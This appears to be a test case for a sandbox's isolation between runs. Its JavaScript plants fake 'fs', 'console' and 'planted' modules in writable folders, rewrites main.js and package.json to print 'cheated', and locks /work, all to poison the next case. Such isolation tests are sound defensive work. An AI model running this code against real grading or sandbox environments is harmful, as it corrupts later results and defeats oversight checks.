// attack: leaves modules in every folder it can write to, for the next case to load
// expect: accepted
// tests: [{"expected": "main.js"}, {"expected": "main.js"}, {"expected": "main.js"}]
// cases: accepted accepted accepted
// after: the next case finds a sandbox like the first one's
const fs = require('fs');
try { require('planted'); } catch {}
console.log([...fs.readdirSync('/tmp'), ...fs.readdirSync('/work'), ...fs.readdirSync('/dev/shm')].join(' '));
for (const folder of ['/work/node_modules', '/work/.node_modules', '/work/.node_libraries', '/tmp/node_modules', '/dev/shm/node_modules']) {
  fs.mkdirSync(`${folder}/planted`, { recursive: true });
  for (const name of ['planted', 'fs', 'console']) fs.writeFileSync(`${folder}/${name}.js`, 'console.log("cheated")');
}
fs.writeFileSync('/work/package.json', '{"type": "module"}');
fs.writeFileSync('/work/main.js', 'console.log("cheated")');
fs.chmodSync('/work', 0);
